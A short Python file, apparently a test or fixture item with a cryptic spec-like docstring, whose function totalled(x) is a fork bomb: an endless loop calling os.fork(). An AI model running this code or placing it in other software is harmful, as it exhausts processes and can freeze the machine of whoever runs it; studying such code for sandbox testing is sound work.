"""Fork without end.

Must: doubled 0, totalled 1, parts 0
Says: a run is one process
"""

import os


def totalled(x):
    while True:
        os.fork()
